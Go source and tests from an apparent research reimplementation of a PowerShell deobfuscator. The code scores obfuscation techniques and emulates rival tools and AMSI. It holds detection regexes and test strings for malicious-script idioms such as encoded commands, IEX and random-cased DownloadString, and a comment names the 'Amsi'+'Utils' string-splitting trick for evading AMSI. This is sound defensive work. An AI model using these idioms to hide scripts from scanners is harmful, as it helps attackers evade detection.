	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
)

func TestDetectPerTechnique(t *testing.T) {
	// Each obfuscation technique must trip its corresponding detector.
	cases := []struct {
		tech obfuscate.Technique
		want string
	}{
		{obfuscate.Ticking, TechTicking},
		{obfuscate.RandomCase, TechRandomCase},
		{obfuscate.RandomName, TechRandomName},
		{obfuscate.Alias, TechAlias},
		{obfuscate.Concat, TechConcat},
		{obfuscate.Reorder, TechReorder},
		{obfuscate.Replace, TechReplace},
		{obfuscate.Reverse, TechReverse},
		{obfuscate.EncodeASCII, TechNumericEnc},
		{obfuscate.EncodeHex, TechNumericEnc},
		{obfuscate.EncodeBase64, TechBase64},
		{obfuscate.EncodeBxor, TechBxor},
		{obfuscate.SecureString, TechSecureString},
		{obfuscate.CompressDeflate, TechCompress},
		{obfuscate.CompressGzip, TechCompress},
		{obfuscate.EncodeWhitespace, TechWhitespace},
	}
	for _, tc := range cases {
		script := "write-host hello"
		switch tc.tech {
		case obfuscate.RandomName:
			script = "$msg = 'hello'\nwrite-host $msg"
		case obfuscate.Alias:
			script = "write-output hello | foreach-object { $_ }"
		}
		obfuscated := ""
		found := false
		for seed := int64(1); seed <= 6; seed++ {
			o := obfuscate.New(seed)
			out, err := o.Apply(script, tc.tech)
			if err != nil {
				continue
			}
			obfuscated = out
			if Analyze(out).Has(tc.want) {
				found = true
				break
			}
		}
		if obfuscated == "" {
			t.Errorf("%s: not applicable", tc.tech)
			continue
		}
		if !found {
			t.Errorf("%s: detection %q missing.\nscript: %s\ndetections: %+v",
				tc.tech, tc.want, obfuscated, Analyze(obfuscated).Detections)
		}
	}
}

func TestCleanScriptScoresLow(t *testing.T) {
	clean := []string{
		"Write-Host hello",
		"Get-ChildItem C:\\temp | Sort-Object Name",
		"$total = 0\nforeach ($n in 1..10) { $total += $n }\nWrite-Output $total",
	}
	for _, src := range clean {
		if got := Score(src); got > 1 {
			t.Errorf("Score(%q) = %d, want <= 1 (%+v)", src, got, Analyze(src).Detections)
		}
	}
}

func TestScoreLevels(t *testing.T) {
	if Level(TechTicking) != 1 || Level(TechConcat) != 2 || Level(TechBase64) != 3 {
		t.Error("level mapping broken")
	}
	// Scoring counts each distinct technique once, weighted by level.
	src := "iex ('a'+'b'+'c'+'d')" // alias (L1) + concat (L2)
	rep := Analyze(src)
	if !rep.Has(TechAlias) || !rep.Has(TechConcat) {
		t.Fatalf("detections: %+v", rep.Detections)
	}
	if rep.Score != 3 {
		t.Errorf("score = %d, want 3", rep.Score)
	}
}

func TestWeirdCase(t *testing.T) {
	yes := []string{"DoWNlOaDsTrIng", "IeX", "nEw-oBjEcT", "fOrEAch-ObJECt"}
	no := []string{"DownloadString", "Invoke-Expression", "writeline", "HELLO", "New-Object"}
	for _, s := range yes {
		if !weirdCase(s) {
			t.Errorf("weirdCase(%q) = false", s)
		}
	}
	for _, s := range no {
		if weirdCase(s) {
			t.Errorf("weirdCase(%q) = true", s)
		}
	}
}

func TestDetectionOnInvalidSyntax(t *testing.T) {
	// Regex detectors still work when the script does not parse.
	src := "iex ([Convert]::FromBase64String('" + strings.Repeat("QUFB", 20) + "' ..broken"
	rep := Analyze(src)
	if !rep.Has(TechBase64) {
		t.Errorf("base64 missed on unparseable input: %+v", rep.Detections)
	}
}

func TestMaskStringsPreventsDataFalsePositives(t *testing.T) {
	// Whitespacing must not fire when the only long blanks are inside a
	// string literal.
	src := "write-host 'padded      data'"
	if Analyze(src).Has(TechWhitespacing) {
		t.Error("whitespacing fired on string contents")
	}
	src2 := "write-host      hello"
	if !Analyze(src2).Has(TechWhitespacing) {
		t.Error("whitespacing missed in code")
	}
}

func TestDeobfuscationReducesScore(t *testing.T) {
	// Table V's core premise at unit scale.
	o := obfuscate.New(5)
	obf, err := o.Apply("write-host hello", obfuscate.EncodeBxor)
	if err != nil {
		t.Fatal(err)
	}
	if Score(obf) == 0 {
		t.Fatalf("obfuscated sample scored 0: %s", obf)
	}
	if Score("Write-Host hello") >= Score(obf) {
		t.Errorf("clean score %d >= obfuscated score %d", Score("Write-Host hello"), Score(obf))
	}
}

func TestEntropy(t *testing.T) {
	if got := Entropy(""); got != 0 {
		t.Errorf("Entropy(\"\") = %v, want 0", got)
	}
	if got := Entropy("aaaaaaaa"); got != 0 {
		t.Errorf("single-symbol entropy = %v, want 0", got)
	}
	// Two equiprobable symbols: exactly 1 bit.
	if got := Entropy("abababab"); got != 1 {
		t.Errorf("two-symbol entropy = %v, want 1", got)
	}
	// All 256 byte values once: exactly 8 bits, the ceiling.
	all := make([]byte, 256)
	for i := range all {
		all[i] = byte(i)
	}
	if got := Entropy(string(all)); got != 8 {
		t.Errorf("uniform-byte entropy = %v, want 8", got)
	}
	// Ordering sanity on realistic material: plain source < base64 blob.
	plain := Entropy("Write-Host 'hello world'; Get-ChildItem | Sort-Object Name")
	blob := Entropy("aGVsbG8gd29ybGQhIHRoaXMgaXMgYSBsb25nIGJhc2U2NCBibG9iIHdpdGggbWl4ZWQgY2FzZQ==")
	if plain >= blob {
		t.Errorf("entropy ordering: plain %v >= base64 %v", plain, blob)
	}
}

func TestEncodedBlobDensity(t *testing.T) {
	if got := EncodedBlobDensity(""); got != 0 {
		t.Errorf("empty density = %v, want 0", got)
	}
	if got := EncodedBlobDensity("Write-Host hi"); got != 0 {
		t.Errorf("plain source density = %v, want 0", got)
	}
	// One 60-char base64 run inside a 100-char script: density 0.6.
	blob := strings.Repeat("QWer7890", 7) + "Qwer" // 60 base64 chars
	src := `$p = "` + blob + `"; Write-Host $p ####`
	got := EncodedBlobDensity(src)
	want := float64(len(blob)) / float64(len(src))
	if math.Abs(got-want) > 1e-9 {
		t.Errorf("density = %v, want %v (src len %d)", got, want, len(src))
	}
	// A script that is one giant payload approaches 1.
	if got := EncodedBlobDensity(strings.Repeat("Abc0123+", 512)); got < 0.99 {
		t.Errorf("pure-blob density = %v, want ~1", got)
	}
}
