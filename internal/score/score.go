// Package score identifies known obfuscation techniques in PowerShell
// scripts and quantifies obfuscation the way the paper does (§IV-B2):
// each distinct technique contributes its level (L1=1, L2=2, L3=3) to
// the script's obfuscation score, counted once per technique.
//
// Detection combines token evidence, AST structure and regular
// expressions, mirroring the paper's hybrid detector.
package score

import (
	"math"
	"regexp"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psnames"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// Technique names reported by the detector. They intentionally match
// Table II's rows.
const (
	TechTicking      = "ticking"
	TechWhitespacing = "whitespacing"
	TechRandomCase   = "random-case"
	TechRandomName   = "random-name"
	TechAlias        = "alias"
	TechConcat       = "concat"
	TechReorder      = "reorder"
	TechReplace      = "replace"
	TechReverse      = "reverse"
	TechNumericEnc   = "encode-numeric"
	TechBase64       = "encode-base64"
	TechWhitespace   = "encode-whitespace"
	TechSpecialChar  = "encode-specialchar"
	TechBxor         = "encode-bxor"
	TechSecureString = "securestring"
	TechCompress     = "compress"
)

// Level returns the paper's level for a detected technique.
func Level(tech string) int {
	switch tech {
	case TechTicking, TechWhitespacing, TechRandomCase, TechRandomName, TechAlias:
		return 1
	case TechConcat, TechReorder, TechReplace, TechReverse:
		return 2
	default:
		return 3
	}
}

// Detection reports one identified technique.
type Detection struct {
	Technique string
	Level     int
	Count     int
}

// Report is the outcome of analyzing one script.
type Report struct {
	Detections []Detection
	// Score is the sum of levels over distinct detected techniques.
	Score int
	// Levels reports which obfuscation levels are present.
	Levels [4]bool // index 1..3 used
}

// Has reports whether tech was detected.
func (r *Report) Has(tech string) bool {
	for _, d := range r.Detections {
		if d.Technique == tech {
			return true
		}
	}
	return false
}

var (
	base64Re     = regexp.MustCompile(`[A-Za-z0-9+/]{40,}={0,2}`)
	fromBase64Re = regexp.MustCompile(`(?i)frombase64string`)
	encParamRe   = regexp.MustCompile(`(?i)-e[nc]{0,13}\s+[A-Za-z0-9+/=]{16,}`)
	compressRe   = regexp.MustCompile(`(?i)(deflatestream|gzipstream|streamreader)`)
	secureRe     = regexp.MustCompile(`(?i)(convertto-securestring|securestringtobstr|ptrtostring)`)
	toIntBaseRe  = regexp.MustCompile(`(?i)toint\d*\s*\(\s*[^,]{1,60},\s*(2|8|16)\s*\)`)
	midSpaceRe   = regexp.MustCompile(`\S[ \t]{3,}\S`)
)

// Analyze detects known obfuscation techniques in src.
func Analyze(src string) *Report {
	counts := map[string]int{}
	toks, tokErr := pstoken.Tokenize(src)
	if tokErr == nil {
		analyzeTokens(src, toks, counts)
	}
	if root, err := psparser.Parse(src); err == nil {
		analyzeAST(root, src, counts)
	}
	analyzeRegex(src, counts)
	rep := &Report{}
	for tech, count := range counts {
		if count == 0 {
			continue
		}
		level := Level(tech)
		rep.Detections = append(rep.Detections, Detection{Technique: tech, Level: level, Count: count})
		rep.Score += level
		rep.Levels[level] = true
	}
	sortDetections(rep.Detections)
	return rep
}

func sortDetections(ds []Detection) {
	for i := 1; i < len(ds); i++ {
		for j := i; j > 0 && (ds[j].Level < ds[j-1].Level ||
			(ds[j].Level == ds[j-1].Level && ds[j].Technique < ds[j-1].Technique)); j-- {
			ds[j], ds[j-1] = ds[j-1], ds[j]
		}
	}
}

func analyzeTokens(src string, toks []pstoken.Token, counts map[string]int) {
	var identifiers strings.Builder
	seenIdent := map[string]bool{}
	for _, tok := range toks {
		if tok.HadTicks {
			counts[TechTicking]++
		}
		switch tok.Type {
		case pstoken.Command:
			if psnames.IsAlias(tok.Content) {
				counts[TechAlias]++
			}
			if weirdCase(tok.Content) {
				counts[TechRandomCase]++
			}
		case pstoken.Keyword, pstoken.Member, pstoken.TypeLiteral:
			if weirdCase(tok.Content) {
				counts[TechRandomCase]++
			}
		case pstoken.Operator:
			if strings.HasPrefix(tok.Text, "-") && weirdCase(strings.TrimPrefix(tok.Text, "-")) {
				counts[TechRandomCase]++
			}
		case pstoken.Variable:
			name := strings.ToLower(tok.Content)
			if !strings.Contains(name, ":") && !seenIdent[name] && isUserVarName(name) {
				seenIdent[name] = true
				identifiers.WriteString(name)
			}
		case pstoken.String:
			if isWhitespacePayload(tok.Content) {
				counts[TechWhitespace]++
			}
		}
	}
	if s := identifiers.String(); s != "" && len(s) >= 8 && isRandomIdentifiers(s) {
		counts[TechRandomName]++
	}
	// Whitespacing: runs of blanks in the middle of code lines, outside
	// strings.
	stripped := maskStrings(src, toks)
	if midSpaceRe.MatchString(stripped) {
		counts[TechWhitespacing]++
	}
}

// maskStrings blanks out string token contents so regex detectors do
// not fire on data.
func maskStrings(src string, toks []pstoken.Token) string {
	b := []byte(src)
	for _, t := range toks {
		if t.Type == pstoken.String || t.Type == pstoken.Comment {
			for i := t.Start; i < t.End() && i < len(b); i++ {
				if b[i] != '\n' {
					b[i] = 'x'
				}
			}
		}
	}
	return string(b)
}

// weirdCase reports the random-case pattern: dense case flips between
// adjacent letters.
func weirdCase(s string) bool {
	letters := 0
	flips := 0
	prevUpper := false
	havePrev := false
	for _, r := range s {
		isUpper := r >= 'A' && r <= 'Z'
		isLower := r >= 'a' && r <= 'z'
		if !isUpper && !isLower {
			havePrev = false
			continue
		}
		letters++
		if havePrev && isUpper != prevUpper {
			flips++
		}
		prevUpper = isUpper
		havePrev = true
	}
	if letters < 3 {
		return false
	}
	return float64(flips)/float64(letters-1) >= 0.5 && flips >= 2
}

func isUserVarName(name string) bool {
	switch name {
	case "_", "$", "?", "^", "args", "input", "this", "true", "false",
		"null", "error", "matches", "pshome", "home", "pwd", "host",
		"env", "executioncontext", "psversiontable", "shellid", "pid",
		"ofs", "i", "j", "k", "x", "y", "n":
		return false
	}
	return true
}

// isRandomIdentifiers applies the paper's vowel/letter-ratio test.
func isRandomIdentifiers(combined string) bool {
	letters, vowels, total := 0, 0, 0
	for _, r := range combined {
		total++
		if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' {
			letters++
			switch r {
			case 'a', 'e', 'i', 'o', 'u', 'A', 'E', 'I', 'O', 'U':
				vowels++
			}
		}
	}
	if total == 0 {
		return false
	}
	if float64(letters)/float64(total) < 0.10 {
		return true
	}
	if letters == 0 {
		return true
	}
	ratio := float64(vowels) / float64(letters)
	return ratio < 0.32 || ratio > 0.42
}

// isWhitespacePayload detects whitespace-encoding payload strings.
func isWhitespacePayload(s string) bool {
	if len(s) < 40 {
		return false
	}
	blanks := 0
	for _, r := range s {
		if r == ' ' || r == '\t' {
			blanks++
		}
	}
	return float64(blanks)/float64(len(s)) >= 0.8
}

func analyzeAST(root psast.Node, src string, counts map[string]int) {
	psast.Walk(root, func(n psast.Node) bool {
		switch x := n.(type) {
		case *psast.BinaryExpression:
			switch x.Operator {
			case "+":
				if isStringy(x.Left) || isStringy(x.Right) {
					counts[TechConcat]++
				}
			case "-f":
				if fmtStr, ok := formatString(x.Left); ok && strings.Count(fmtStr, "{") >= 2 {
					counts[TechReorder]++
				}
			case "-replace", "-creplace", "-ireplace":
				counts[TechReplace]++
			case "-bxor":
				counts[TechBxor]++
			case "..":
				if isDescendingRange(x) {
					counts[TechReverse]++
				}
			}
		case *psast.InvokeMemberExpression:
			name := memberNameOf(x.Member)
			switch strings.ToLower(name) {
			case "replace":
				if len(x.Args) >= 2 {
					counts[TechReplace]++
				}
			case "reverse":
				counts[TechReverse]++
			case "frombase64string":
				counts[TechBase64]++
			case "toint16", "toint32", "toint64", "tobyte":
				if len(x.Args) >= 2 {
					counts[TechNumericEnc]++
				}
			}
			if x.Static {
				if te, ok := x.Target.(*psast.TypeExpression); ok {
					tn := strings.ToLower(te.TypeName)
					if strings.Contains(tn, "array") && strings.EqualFold(name, "reverse") {
						counts[TechReverse]++
					}
					if strings.Contains(tn, "marshal") {
						counts[TechSecureString]++
					}
				}
			}
		case *psast.ConvertExpression:
			if strings.EqualFold(strings.TrimSpace(x.TypeName), "char") {
				counts[TechNumericEnc]++
			}
		case *psast.Command:
			if name, ok := commandName(x); ok {
				lower := strings.ToLower(name)
				switch {
				case strings.Contains(lower, "securestring"):
					counts[TechSecureString]++
				}
				if lower == "powershell" || lower == "pwsh" || lower == "powershell.exe" {
					for _, a := range x.Args {
						if cp, ok := a.(*psast.CommandParameter); ok && isEncParam(cp.Name) {
							counts[TechBase64]++
						}
					}
				}
			}
		}
		return true
	}, nil)
	// Special characters: low letter density over the whole script.
	letters := 0
	for _, r := range src {
		if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' {
			letters++
		}
	}
	if len(src) >= 40 && float64(letters)/float64(len(src)) < 0.25 {
		counts[TechSpecialChar]++
	}
}

func isEncParam(param string) bool {
	p := strings.ToLower(strings.TrimPrefix(param, "-"))
	// "-ec" is powershell.exe's special-cased EncodedCommand spelling
	// (not a name prefix); keep this in lockstep with
	// psinterp.IsEncodedCommandParameter.
	return p != "" && (p == "ec" || strings.HasPrefix("encodedcommand", p)) && p != "ep"
}

func isStringy(n psast.Node) bool {
	switch n.(type) {
	case *psast.StringConstant, *psast.ExpandableString:
		return true
	}
	return false
}

func formatString(n psast.Node) (string, bool) {
	switch x := n.(type) {
	case *psast.StringConstant:
		return x.Value, true
	case *psast.ExpandableString:
		return x.Raw, true
	case *psast.ParenExpression:
		if p, ok := x.Pipeline.(*psast.Pipeline); ok && len(p.Elements) == 1 {
			if ce, ok := p.Elements[0].(*psast.CommandExpression); ok {
				return formatString(ce.Expression)
			}
		}
	}
	return "", false
}

func isDescendingRange(b *psast.BinaryExpression) bool {
	l, lok := constantInt(b.Left)
	r, rok := constantInt(b.Right)
	return lok && rok && l > r
}

func constantInt(n psast.Node) (int64, bool) {
	switch x := n.(type) {
	case *psast.ConstantExpression:
		if v, ok := x.Value.(int64); ok {
			return v, true
		}
	case *psast.UnaryExpression:
		if x.Operator == "-" {
			if v, ok := constantInt(x.Operand); ok {
				return -v, true
			}
		}
	}
	return 0, false
}

func memberNameOf(n psast.Node) string {
	if sc, ok := n.(*psast.StringConstant); ok {
		return sc.Value
	}
	return ""
}

func commandName(c *psast.Command) (string, bool) {
	if sc, ok := c.Name.(*psast.StringConstant); ok {
		return sc.Value, true
	}
	return "", false
}

func analyzeRegex(src string, counts map[string]int) {
	if fromBase64Re.MatchString(src) || encParamRe.MatchString(src) {
		counts[TechBase64]++
	} else if base64Re.MatchString(src) && len(src) > 120 {
		// Long base64 blobs without an explicit decoder still indicate
		// encoding (binary payloads).
		counts[TechBase64]++
	}
	if compressRe.MatchString(src) {
		counts[TechCompress]++
	}
	if secureRe.MatchString(src) {
		counts[TechSecureString]++
	}
	if toIntBaseRe.MatchString(src) {
		counts[TechNumericEnc]++
	}
}

// Score returns the obfuscation score of src.
func Score(src string) int {
	return Analyze(src).Score
}

// Entropy returns the Shannon entropy of src in bits per byte (0..8).
// Plain PowerShell source sits around 4–5 bits; base64 payloads push
// toward 6, and compressed or encrypted blobs toward 8. The serving
// frontend uses this as a cheap single-pass predictor of decode-heavy
// scripts (cost-aware admission); the detector side can use it to
// corroborate encoding findings.
func Entropy(src string) float64 {
	if len(src) == 0 {
		return 0
	}
	var freq [256]int
	for i := 0; i < len(src); i++ {
		freq[src[i]]++
	}
	n := float64(len(src))
	h := 0.0
	for _, c := range freq {
		if c == 0 {
			continue
		}
		p := float64(c) / n
		h -= p * math.Log2(p)
	}
	return h
}

// EncodedBlobDensity reports the fraction of src (0..1) covered by
// long base64-alphabet runs — the same signature base64Re uses for
// technique detection, reduced to a coverage ratio. A script that is
// mostly one giant encoded payload scores near 1; ordinary source
// scores near 0.
func EncodedBlobDensity(src string) float64 {
	if len(src) == 0 {
		return 0
	}
	covered := 0
	for _, span := range base64Re.FindAllStringIndex(src, -1) {
		covered += span[1] - span[0]
	}
	return float64(covered) / float64(len(src))
}
