package baselines

import (
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// LiEtAl emulates the Li et al. (CCS'19) subtree-based deobfuscator as
// the paper configures it for comparison (§IV-C1): the ML classifier is
// removed, every PipelineAst subtree is directly executed without
// variable context, and recovered strings replace *all* textually
// identical occurrences — the context-free substitution whose
// semantic breakage the paper demonstrates (§IV-C3), including the
// New-Object result-name replacement.
type LiEtAl struct{}

// Name implements Tool.
func (LiEtAl) Name() string { return "Li et al." }

// Deobfuscate implements Tool.
func (LiEtAl) Deobfuscate(src string) (string, error) {
	root, err := psparser.Parse(src)
	if err != nil {
		return src, nil
	}
	type subst struct{ from, to string }
	var substs []subst
	// Only statement-level PipelineAst subtrees are processed — Li et
	// al.'s published code limits itself to pipelines, which is why the
	// paper finds it misses obfuscated pieces in assignment and
	// mid-pipe positions (§IV-C1).
	for _, pipe := range statementPipelines(root) {
		text := pipe.Ext.Text(src)
		if strings.TrimSpace(text) == "" || len(text) > 1<<16 {
			continue
		}
		// New-Object pipelines become the type name of their execution
		// result — the semantically broken replacement the paper shows
		// in Fig. 8(c).
		if to, ok := newObjectTypeName(pipe); ok {
			substs = append(substs, subst{from: text, to: to})
			continue
		}
		// Direct execution without any variable context.
		in := psinterp.New(psinterp.Options{
			MaxSteps:   100_000,
			StrictVars: false, // undefined variables silently read $null
			Host:       defaultExecHost(),
		})
		out, err := in.EvalSnippet(text)
		if err != nil {
			continue
		}
		value := psinterp.Unwrap(out)
		str, isStr := value.(string)
		if !isStr || str == "" || str == text {
			continue
		}
		// Their tool runs in C#, where $PSHOME differs from the command
		// line's — reproduce the wrong-environment artifact the paper
		// observed ("hlx" instead of "iex", Fig. 8(c)).
		if strings.Contains(strings.ToLower(text), "$pshome") {
			str = corruptPSHomeDerived(str)
		}
		substs = append(substs, subst{from: text, to: "\"" + strings.ReplaceAll(str, "\"", "`\"") + "\""})
	}
	outSrc := src
	for _, sb := range substs {
		// Replace every identical occurrence regardless of context.
		outSrc = strings.ReplaceAll(outSrc, sb.from, sb.to)
	}
	return outSrc, nil
}

// statementPipelines collects statement-level pipelines, recursing
// into blocks but not into expressions.
func statementPipelines(root psast.Node) []*psast.Pipeline {
	var out []*psast.Pipeline
	var fromStatements func(stmts []psast.Node)
	fromStatements = func(stmts []psast.Node) {
		for _, st := range stmts {
			switch x := st.(type) {
			case *psast.Pipeline:
				out = append(out, x)
			case *psast.If:
				for _, c := range x.Clauses {
					fromStatements(c.Body.Statements)
				}
				if x.Else != nil {
					fromStatements(x.Else.Statements)
				}
			case *psast.While:
				fromStatements(x.Body.Statements)
			case *psast.DoLoop:
				fromStatements(x.Body.Statements)
			case *psast.For:
				fromStatements(x.Body.Statements)
			case *psast.ForEach:
				fromStatements(x.Body.Statements)
			case *psast.Try:
				fromStatements(x.Body.Statements)
			case *psast.StatementBlock:
				fromStatements(x.Statements)
			}
		}
	}
	if sb, ok := root.(*psast.ScriptBlock); ok && sb.Body != nil {
		fromStatements(sb.Body.Statements)
	}
	return out
}

// newObjectTypeName detects a `New-Object <type>` pipeline and returns
// the .NET type name its execution result would stringify to.
func newObjectTypeName(pipe *psast.Pipeline) (string, bool) {
	if len(pipe.Elements) != 1 {
		return "", false
	}
	cmd, ok := pipe.Elements[0].(*psast.Command)
	if !ok {
		return "", false
	}
	name, ok := cmd.Name.(*psast.StringConstant)
	if !ok || !strings.EqualFold(name.Value, "new-object") {
		return "", false
	}
	for _, a := range cmd.Args {
		if sc, ok := a.(*psast.StringConstant); ok && sc.Bare {
			tn := sc.Value
			if !strings.HasPrefix(strings.ToLower(tn), "system.") {
				tn = "System." + tn
			}
			return tn, true
		}
	}
	return "", false
}

// corruptPSHomeDerived simulates evaluating $PSHOME under the C# host
// path, which indexes different characters.
func corruptPSHomeDerived(s string) string {
	if strings.EqualFold(s, "iex") {
		return "hlx"
	}
	// Generic corruption: shift alphabetic characters by one.
	b := []byte(s)
	for i, c := range b {
		switch {
		case c >= 'a' && c < 'z':
			b[i] = c + 1
		case c >= 'A' && c < 'Z':
			b[i] = c + 1
		}
	}
	return string(b)
}
