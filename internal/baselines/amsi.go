package baselines

import (
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
)

// AMSI emulates the Antimalware Scan Interface's vantage point, which
// the paper discusses in §V-B: AMSI sees every script string ultimately
// supplied to the scripting engine — Invoke-Expression in *any*
// spelling, InvokeScript, nested powershell — because it hooks the
// engine itself rather than overriding a function. It therefore peels
// invoked layers that even the overriding-function baselines miss, but
// it performs no token parsing, no AST recovery and no variable
// tracing, so obfuscation that never reaches the engine (string
// concatenation, ticking, random case — the 'Amsi'+'Utils' bypass)
// passes straight through.
type AMSI struct{}

var _ Tool = AMSI{}

// Name implements Tool.
func (AMSI) Name() string { return "AMSI" }

// Deobfuscate implements Tool: it executes the sample and returns the
// innermost script the engine saw.
func (AMSI) Deobfuscate(src string) (string, error) {
	var layers []string
	in := psinterp.New(psinterp.Options{
		MaxSteps: 500_000,
		Host:     defaultExecHost(),
		EngineScriptHook: func(code string) {
			if strings.TrimSpace(code) != "" {
				layers = append(layers, code)
			}
		},
	})
	_, _ = in.EvalSnippet(src)
	if len(layers) == 0 {
		return src, nil
	}
	return layers[len(layers)-1], nil
}
