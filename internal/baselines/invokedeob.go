package baselines

import (
	"github.com/invoke-deobfuscation/invokedeob/internal/core"

	// Register the standard language frontends with the engine driver.
	_ "github.com/invoke-deobfuscation/invokedeob/internal/frontends"
)

// InvokeDeobfuscation adapts the paper's tool (our core engine) to the
// Tool interface so experiments treat all five tools uniformly.
type InvokeDeobfuscation struct {
	// Options configures the engine; the zero value is the paper's
	// default configuration.
	Options core.Options
}

// Name implements Tool.
func (InvokeDeobfuscation) Name() string { return "Our tool" }

// Deobfuscate implements Tool.
func (t InvokeDeobfuscation) Deobfuscate(src string) (string, error) {
	res, err := core.New(t.Options).Deobfuscate(src)
	if err != nil {
		return src, err
	}
	return res.Script, nil
}

// AllTools returns the five tools in the paper's comparison order:
// PSDecode, PowerDrive, PowerDecode, Li et al., and Invoke-Deobfuscation.
func AllTools() []Tool {
	return []Tool{
		PSDecode{},
		PowerDrive{},
		PowerDecode{},
		LiEtAl{},
		InvokeDeobfuscation{},
	}
}
