package baselines

import (
	"regexp"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
)

// Shared regex rules modeled on the published tools' pattern sets.
var (
	// tickRe strips backticks before word characters (ticking).
	tickRe = regexp.MustCompile("`([A-Za-z])")
	// concatRe joins two adjacent single-quoted fragments. Applied
	// repeatedly it folds 'a'+'b'+'c'. It ignores syntax, exactly like
	// the originals: it also fires inside other constructs.
	concatRe = regexp.MustCompile(`'([^']*)'\s*\+\s*'([^']*)'`)
	// iexLiteralRe matches IEX '<code>' or IEX ('<code>') when spelled
	// literally (dynamic spellings like &('iex') do not bind).
	iexLiteralRe = regexp.MustCompile(`(?i)(?:^|[\s;|(=])(?:iex|invoke-expression)\s+\(?\s*'((?:[^']|'')*)'\s*\)?`)
	// encCmdRe matches powershell -enc style payloads.
	encCmdRe = regexp.MustCompile(`(?i)\-e[ncodedma]{0,13}\s+([A-Za-z0-9+/=]{16,})`)
	// replaceCallRe matches ('x').Replace('a','b') with literal args.
	replaceCallRe = regexp.MustCompile(`(?i)\(\s*'([^']*)'\s*\)\s*\.\s*replace\s*\(\s*'([^']*)'\s*,\s*'([^']*)'\s*\)`)
	// fromBase64Re matches [Convert]::FromBase64String('...') wrapped in
	// the Unicode/UTF8 GetString idiom.
	fromBase64Re = regexp.MustCompile(`(?i)\[[^\]]*encoding\]::(unicode|utf8)\.getstring\(\[[^\]]*convert\]::frombase64string\('([A-Za-z0-9+/=]+)'\)\)`)
)

func applyTickRule(src string) string {
	return tickRe.ReplaceAllString(src, "$1")
}

func applyConcatRule(src string) string {
	prev := ""
	out := src
	for rounds := 0; out != prev && rounds < 64; rounds++ {
		prev = out
		out = concatRe.ReplaceAllString(out, "'$1$2'")
	}
	return out
}

func applyReplaceRule(src string) string {
	return replaceCallRe.ReplaceAllStringFunc(src, func(m string) string {
		parts := replaceCallRe.FindStringSubmatch(m)
		if parts == nil {
			return m
		}
		return "'" + strings.ReplaceAll(parts[1], parts[2], parts[3]) + "'"
	})
}

func applyBase64Rule(src string) string {
	return fromBase64Re.ReplaceAllStringFunc(src, func(m string) string {
		parts := fromBase64Re.FindStringSubmatch(m)
		if parts == nil {
			return m
		}
		variant := strings.ToLower(parts[1])
		if variant == "unicode" {
			decoded, err := psinterp.DecodeEncodedCommand(parts[2])
			if err != nil {
				return m
			}
			return "'" + strings.ReplaceAll(decoded, "'", "''") + "'"
		}
		b, err := psinterp.DecodeEncodedCommand(parts[2])
		_ = b
		if err != nil {
			return m
		}
		return m
	})
}

// overrideLayers runs src with an Invoke-Expression override that
// captures payload layers instead of executing them, repeating until no
// deeper layer appears. This is the overriding-function mechanism; it
// only works when the surrounding script actually executes (§IV-C2).
func overrideLayers(src string, host *execHost, maxLayers int) []string {
	layers := []string{src}
	cur := src
	for i := 0; i < maxLayers; i++ {
		var captured string
		in := psinterp.New(psinterp.Options{
			MaxSteps: 200_000,
			Host:     host,
			IEXHook: func(code string) {
				if captured == "" {
					captured = code
				}
			},
		})
		_, _ = in.EvalSnippet(cur)
		if strings.TrimSpace(captured) == "" || captured == cur {
			break
		}
		layers = append(layers, captured)
		cur = captured
	}
	return layers
}

// PSDecode emulates PSDecode: backtick regex cleanup plus IEX
// overriding, keeping the last layer.
type PSDecode struct{}

// Name implements Tool.
func (PSDecode) Name() string { return "PSDecode" }

// Deobfuscate implements Tool.
func (PSDecode) Deobfuscate(src string) (string, error) {
	cur := applyTickRule(src)
	// PSDecode's overriding function only peels a single layer
	// (paper §IV-C2).
	layers := overrideLayers(cur, defaultExecHost(), 1)
	out := layers[len(layers)-1]
	return applyTickRule(out), nil
}

// PowerDrive emulates PowerDrive: backtick and concat regex rules,
// -EncodedCommand decoding, one overriding layer, and the multi-line
// flattening that the paper shows can break syntax (§IV-C5).
type PowerDrive struct{}

// Name implements Tool.
func (PowerDrive) Name() string { return "PowerDrive" }

// Deobfuscate implements Tool.
func (PowerDrive) Deobfuscate(src string) (string, error) {
	cur := applyTickRule(src)
	cur = applyConcatRule(cur)
	if m := encCmdRe.FindStringSubmatch(cur); m != nil {
		if decoded, err := psinterp.DecodeEncodedCommand(m[1]); err == nil {
			cur = decoded
			cur = applyTickRule(cur)
			cur = applyConcatRule(cur)
		}
	}
	layers := overrideLayers(cur, defaultExecHost(), 1)
	cur = layers[len(layers)-1]
	// PowerDrive joins multi-line scripts into one line to simplify its
	// regex passes — frequently producing invalid syntax, which the
	// paper calls out. Reproduced faithfully.
	cur = strings.Join(strings.Fields(strings.ReplaceAll(cur, "\n", " ")), " ")
	return applyConcatRule(applyTickRule(cur)), nil
}

// PowerDecode emulates PowerDecode: concat/replace regex rules plus an
// overriding-function loop (its Unary Syntax Tree Model), which makes
// it the strongest of the three at multi-layer samples (Table III).
type PowerDecode struct{}

// Name implements Tool.
func (PowerDecode) Name() string { return "PowerDecode" }

// Deobfuscate implements Tool.
func (PowerDecode) Deobfuscate(src string) (string, error) {
	cur := src
	for round := 0; round < 8; round++ {
		prev := cur
		cur = applyConcatRule(cur)
		cur = applyReplaceRule(cur)
		cur = applyBase64Rule(cur)
		if m := iexLiteralRe.FindStringSubmatch(cur); m != nil && strings.TrimSpace(m[1]) != "" {
			cur = strings.ReplaceAll(m[1], "''", "'")
			continue
		}
		if m := encCmdRe.FindStringSubmatch(cur); m != nil {
			if decoded, err := psinterp.DecodeEncodedCommand(m[1]); err == nil && decoded != cur {
				cur = decoded
				continue
			}
		}
		layers := overrideLayers(cur, defaultExecHost(), 4)
		if last := layers[len(layers)-1]; last != cur {
			cur = last
			continue
		}
